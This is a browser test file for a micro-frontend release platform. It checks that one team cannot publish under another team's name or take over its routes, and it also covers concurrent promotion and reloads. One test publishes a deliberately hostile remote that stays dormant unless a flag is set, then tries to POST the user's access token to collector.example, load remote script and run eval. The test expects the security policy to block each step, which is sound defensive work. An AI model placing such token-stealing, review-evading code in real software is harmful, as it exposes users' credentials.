import { smokeTest } from '@motohaat/cli/release/smoke';
import { findPorts } from '@motohaat/cli/terminal/ports';

import { expect, test } from '../../fixtures/releasing.ts';
import { variantOf } from '../../fixtures/variants.ts';
import {
  blogs,
  marked,
  patiently,
  promoteSecond,
  rollBack,
  served,
  servedSoon,
  why,
} from '../../pages/storefront.ts';

// What is live is one thing for all of them.
// A smoke test loads each page of a remote.
test.describe.configure({ mode: 'default', timeout: 180_000 });

test('a hostile remote gets neither through the gate with what is others’, nor out of the page', async ({
  page,
  account,
  enter,
  market,
  refused,
}) => {
  const buyers = market.team('mfe-buyer');
  const seller = market.team('mfe-seller');
  const { revision } = await buyers.status();
  const [admins] = (await market.team('mfe-admin').status()).releases;
  const foreign = variantOf('mfe-buyer', {
    version: '0.9.1',
    describe: (release) => ({ ...release, name: 'mfe-seller' }),
  });
  await expect(buyers.publishFolder(foreign)).rejects.toThrow(/mfe-seller/);
  await expect(seller.status()).resolves.toMatchObject({ revision });
  const trespasser = variantOf('mfe-buyer', {
    version: '0.9.2',
    describe: ({ routes: [first, ...rest], ...release }) => ({
      ...release,
      routes: [{ ...first!, path: '/dashboard/addProduct' }, ...rest],
    }),
  });
  expect((await buyers.publishFolder(trespasser)).code).toBe(0);
  const promote = { verb: 'promote', body: { version: '0.9.2', ...why } } as const;
  await expect(buyers.operate(promote, revision)).rejects.toMatchObject({
    code: 'release_refused',
    reasons: expect.arrayContaining([expect.stringContaining('/dashboard/addProduct')]),
  });

  // It behaves while it is tested, and only then.
  const script = `if (localStorage.getItem('provoked')) {
    const outcomes = (globalThis.outcomes = {});
    const note = (name) => [() => (outcomes[name] = 'done'), () => (outcomes[name] = 'refused')];
    fetch('https://collector.example/', { method: 'POST', body: localStorage.accessToken, mode: 'no-cors' }).then(...note('send'));
    fetch('/remotes/mfe-admin/${admins!.release}/release.json').then((answer) => (outcomes.read = answer.status));
    const foreign = document.createElement('script');
    [foreign.onload, foreign.onerror] = note('load');
    try { foreign.src = 'https://collector.example/more.js'; } catch { outcomes.load = 'refused'; }
    document.head.append(foreign);
    const inline = document.createElement('script');
    try { inline.textContent = 'globalThis.ranInline = true'; } catch { outcomes.write = 'refused'; }
    document.head.append(inline);
    try { new Function('globalThis.evaluated = true')(); } catch { outcomes.evaluate = 'refused'; }
  }`;
  await buyers.publishVariant('0.9.3', script);
  const buyer = await account('buyer');
  const body = { version: '0.9.3', percent: 0, accounts: [buyer.email], ...why };
  await buyers.carryOut({ verb: 'canary', body });
  await page.route('https://collector.example/**', (route) => route.fulfill({ body: 'got it' }));
  await page.addInitScript(() => localStorage.setItem('provoked', '1'));
  await enter(page, buyer);
  await expect(async () => {
    await page.goto('/dashboard/wishlist');
    await expect(page.getByRole('heading', { name: 'WishList' })).toBeVisible();
    expect(await page.evaluate(() => 'outcomes' in globalThis)).toBe(true);
  }).toPass(patiently);
  await expect
    .poll(() => page.evaluate(() => (globalThis as { outcomes?: object }).outcomes))
    .toEqual({
      send: 'refused',
      read: 404,
      load: 'refused',
      write: 'refused',
      evaluate: 'refused',
    });
  expect(await page.evaluate(() => 'ranInline' in globalThis)).toBe(false);
  const directives = new Set(refused.splice(0).map((each) => each.split(' ', 1)[0]));
  expect(directives).toContain('connect-src');
  expect(directives).toContain('require-trusted-types-for');
  await rollBack(buyers);
});

test('two teams promote at once, nobody on what their team has changed, and a publish that is cut off leaves nothing', async ({
  market,
}) => {
  const teams = ['mfe-buyer', 'mfe-seller'].map(market.team);
  const operation = { verb: 'promote', body: { version: '0.4.0', ...why } } as const;
  for (const team of teams) {
    await team.publishVariant('0.4.0', `globalThis.fourth = true;`);
    expect(await smokeTest(team, '0.4.0', () => {})).toMatchObject({ passed: true });
  }
  const { revision } = await teams[0]!.status();
  const outcomes = await Promise.allSettled(teams.map((team) => team.operate(operation, revision)));
  expect(outcomes.map(({ status }) => status)).toEqual(['fulfilled', 'fulfilled']);
  const back = { verb: 'promote', body: { version: '0.1.0', ...why } } as const;
  await expect(teams[0]!.operate(back, revision)).rejects.toMatchObject({ status: 412 });

  const [team] = teams;
  const cut = new ReadableStream({
    start: (body) =>
      body.enqueue(
        new TextEncoder().encode('--b\r\nContent-Disposition: form-data; name="release"\r\n\r\n{'),
      ),
    pull: (body) => body.error(new Error('the line is cut')),
  });
  const sent = fetch(`${market.url}/api/registry/mfe-buyer/releases`, {
    method: 'POST',
    headers: {
      authorization: `Bearer ${team!.token}`,
      'content-type': 'multipart/form-data; boundary=b',
    },
    body: cut,
    duplex: 'half',
  } as RequestInit);
  await expect(sent).rejects.toThrow();
  const known = (await team!.status()).releases.length;
  await team!.publishVariant('0.4.0', `globalThis.fourth = true;`);
  expect((await team!.status()).releases).toHaveLength(known);
});

test('a second server process serves what the first one made live, within 5 seconds', async ({
  page,
  market,
}) => {
  const { site } = await findPorts(4520);
  const second = await market.addServer(site);
  const storefront = market.team('mfe-storefront');
  await promoteSecond(storefront);
  expect(await servedSoon(page, storefront, second)).toBe('0.2.0');
  await rollBack(storefront);
});

test('a tab that outlives the files of its release starts afresh once, and never in a loop', async ({
  page,
  request,
  market,
}) => {
  const storefront = market.team('mfe-storefront');
  // Whatever the journey before this one made live is past.
  await expect.poll(() => served(page)).toBeUndefined();
  let documents = 0;
  page.on('request', (sent) => {
    if (sent.isNavigationRequest()) documents += 1;
  });
  await promoteSecond(storefront);
  const { revision } = await storefront.status();
  const live = async () => (await request.get('/api/composition/revision')).json();
  await expect.poll(live, { timeout: 5_000 }).toEqual({ revision });
  // As if they had been removed: a past release's files are kept for 14 days.
  let gone = true;
  await page.route('**/remotes/mfe-storefront/**/async/**', (route) =>
    gone ? route.fulfill({ status: 404, body: 'Not found' }) : route.fallback(),
  );
  await blogs(page).evaluate((link: HTMLElement) => link.click());
  await expect.poll(() => marked(page), { timeout: 10_000 }).toBe('0.2.0');
  await expect(page.getByRole('button', { name: 'Retry' })).toBeVisible();
  expect(documents).toBe(1);
  gone = false;
  await page.getByRole('button', { name: 'Retry' }).click();
  await expect(page.getByRole('heading', { name: /prototypal inheritance/i })).toBeVisible();
  await rollBack(storefront);
});
